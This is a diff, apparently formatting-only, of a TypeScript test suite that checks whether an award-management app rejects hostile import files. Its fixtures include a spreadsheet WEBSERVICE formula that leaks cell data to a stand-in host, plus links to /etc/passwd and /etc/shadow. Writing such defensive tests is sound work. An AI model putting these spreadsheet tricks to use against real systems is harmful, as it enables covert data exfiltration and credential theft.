@@ -102,7 +102,15 @@ interface Host {
 
 async function setUp(call: Host['call']): Promise<number> {
   const committee = (await call('committee:create', SAMPLE_COMMITTEE)).value;
-  const conf = (await call('conference:create', { committeeId: committee.id, kind: 'tong_ket_phat_dong', title: 'Hội nghị tổng kết năm 2023', startsAt: '2024-01-16T08:00', venue: 'Hội trường UBND tỉnh' })).value;
+  const conf = (
+    await call('conference:create', {
+      committeeId: committee.id,
+      kind: 'tong_ket_phat_dong',
+      title: 'Hội nghị tổng kết năm 2023',
+      startsAt: '2024-01-16T08:00',
+      venue: 'Hội trường UBND tỉnh',
+    })
+  ).value;
   const catalog = (await call('award:catalog', {})).value;
   const decision = (
     await call('award:createDecision', {
@@ -130,8 +138,20 @@ beforeAll(async () => {
   served = await startServe();
   const localCall: Host['call'] = (op, input) => local.call(op as never, input as never) as never;
   const servedCall: Host['call'] = async (op, input) => (await apiCall(served, op, input)).body;
-  hosts.push({ name: 'trong tiến trình (Electron)', call: localCall, rss: () => process.memoryUsage().rss, decisionId: await setUp(localCall), close: async () => local.close() });
-  hosts.push({ name: 'máy chủ trình duyệt', call: servedCall, rss: () => procRss(served.pid), decisionId: await setUp(servedCall), close: () => served.stop() });
+  hosts.push({
+    name: 'trong tiến trình (Electron)',
+    call: localCall,
+    rss: () => process.memoryUsage().rss,
+    decisionId: await setUp(localCall),
+    close: async () => local.close(),
+  });
+  hosts.push({
+    name: 'máy chủ trình duyệt',
+    call: servedCall,
+    rss: () => procRss(served.pid),
+    decisionId: await setUp(servedCall),
+    close: () => served.stop(),
+  });
 }, 60_000);
 afterAll(async () => {
   for (const h of hosts) await h.close();
@@ -181,7 +201,9 @@ describe('hostile files through the import operations, on both hosts', () => {
           ['award:importCommit', { decisionId: host.decisionId, file }],
         ] as const) {
           const { result, ms, grewMb, stall } = await watched(host, op, input);
-          console.log(`[hostile] ${label} · ${op} · ${host.name}: ${Math.round(ms)} ms, +${Math.round(grewMb)} MB, khựng ${Math.round(stall)} ms — ${result.error?.message}`);
+          console.log(
+            `[hostile] ${label} · ${op} · ${host.name}: ${Math.round(ms)} ms, +${Math.round(grewMb)} MB, khựng ${Math.round(stall)} ms — ${result.error?.message}`,
+          );
           expect(result.ok).toBe(false);
           expect(result.error!.code).toBe('VALIDATION');
           expect(result.error!.message).toMatch(pattern);
@@ -199,9 +221,14 @@ describe('hostile files through the import operations, on both hosts', () => {
     for (const host of hosts) {
       const exe = await host.call('import:preview', { file: { fileName: 'danh-sach.exe', dataBase64: Buffer.from('MZ\u0090\u0000').toString('base64') } });
       expect(exe.error?.message).toMatch(/Chỉ nhận tệp Excel \(\.xlsx\) hoặc CSV/);
-      const txt = await host.call('award:importPreview', { decisionId: host.decisionId, file: { fileName: 'danh-sach.txt', dataBase64: Buffer.from('Họ và tên\nAn\n').toString('base64') } });
+      const txt = await host.call('award:importPreview', {
+        decisionId: host.decisionId,
+        file: { fileName: 'danh-sach.txt', dataBase64: Buffer.from('Họ và tên\nAn\n').toString('base64') },
+      });
       expect(txt.error?.message).toMatch(/Chỉ nhận tệp Excel dạng \.xlsx/);
-      const zipAsCsv = await host.call('import:preview', { file: { fileName: 'danh-sach.csv', dataBase64: xlsxWithSheet(SHEET_HEAD + SHEET_TAIL).toString('base64') } });
+      const zipAsCsv = await host.call('import:preview', {
+        file: { fileName: 'danh-sach.csv', dataBase64: xlsxWithSheet(SHEET_HEAD + SHEET_TAIL).toString('base64') },
+      });
       expect(zipAsCsv.error?.message).toMatch(/không phải tệp văn bản CSV/);
     }
   });
@@ -219,7 +246,10 @@ describe('hostile files through the import operations, on both hosts', () => {
     if (http) expect(http.body.error.message).toMatch(/quá lớn/);
     // Just under the schema's limit but over 20 MB of bytes: refused by the pipeline before a worker starts.
     const over = Buffer.alloc(21 * 1024 * 1024, 0x41).toString('base64');
-    for (const host of hosts) expect((await host.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: over } })).error?.message).toMatch(/Tệp quá lớn \(tối đa 20 MB\)/);
+    for (const host of hosts)
+      expect((await host.call('import:preview', { file: { fileName: 'dai-bieu.csv', dataBase64: over } })).error?.message).toMatch(
+        /Tệp quá lớn \(tối đa 20 MB\)/,
+      );
   }, 60_000);
 
   it('a CSV that is not UTF-8 gets a message telling how to save it from Excel', async () => {
@@ -234,12 +264,22 @@ describe('hostile files through the import operations, on both hosts', () => {
     const wb = new ExcelJS.Workbook();
     const ws = wb.addWorksheet('Đại biểu');
     ws.addRow(['Họ và tên', 'Chức vụ', 'Ghi chú']);
-    ws.addRow(['Nguyễn Văn An', { formula: "'[mat-khau.xlsx]Sheet1'!A1", result: 'Trưởng Công an xã' }, { text: 'Bấm vào đây', hyperlink: 'file:///etc/passwd' }]);
+    ws.addRow([
+      'Nguyễn Văn An',
+      { formula: "'[mat-khau.xlsx]Sheet1'!A1", result: 'Trưởng Công an xã' },
+      { text: 'Bấm vào đây', hyperlink: 'file:///etc/passwd' },
+    ]);
     ws.addRow([{ formula: 'WEBSERVICE("http://example.invalid/?leak="&A2)', result: 'Trần Thị Bình' }, '', '']);
     const base = Buffer.from(await wb.xlsx.writeBuffer());
     const zipped = await JSZip.loadAsync(base);
-    zipped.file('xl/externalLinks/externalLink1.xml', '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>');
-    zipped.file('xl/externalLinks/_rels/externalLink1.xml.rels', '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/shadow" TargetMode="External"/></Relationships>');
+    zipped.file(
+      'xl/externalLinks/externalLink1.xml',
+      '<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>',
+    );
+    zipped.file(
+      'xl/externalLinks/_rels/externalLink1.xml.rels',
+      '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="file:///etc/shadow" TargetMode="External"/></Relationships>',
+    );
     const bytes = await zipped.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' });
     for (const host of hosts) {
       const p = await host.call('import:preview', { file: { fileName: 'dai-bieu.xlsx', dataBase64: bytes.toString('base64') } });
@@ -266,7 +306,9 @@ describe('hostile files through the import operations, on both hosts', () => {
       const escaped = new ExcelJS.Workbook();
       escaped.addWorksheet('A').addRow(['Họ và tên']).commit();
       escaped.getWorksheet('A')!.addRow(['Nguy_x0000_ễn V_x0001_ăn_x000B_ A_x001F_n']);
-      const x = await host.call('import:preview', { file: { fileName: 'a.xlsx', dataBase64: Buffer.from(await escaped.xlsx.writeBuffer()).toString('base64') } });
+      const x = await host.call('import:preview', {
+        file: { fileName: 'a.xlsx', dataBase64: Buffer.from(await escaped.xlsx.writeBuffer()).toString('base64') },
+      });
       expect(NOT_XML_CHAR(x.value.rows[0].fullName)).toBe(false);
       const raw = new ExcelJS.Workbook();
       raw.addWorksheet('A').addRow([hostile]);
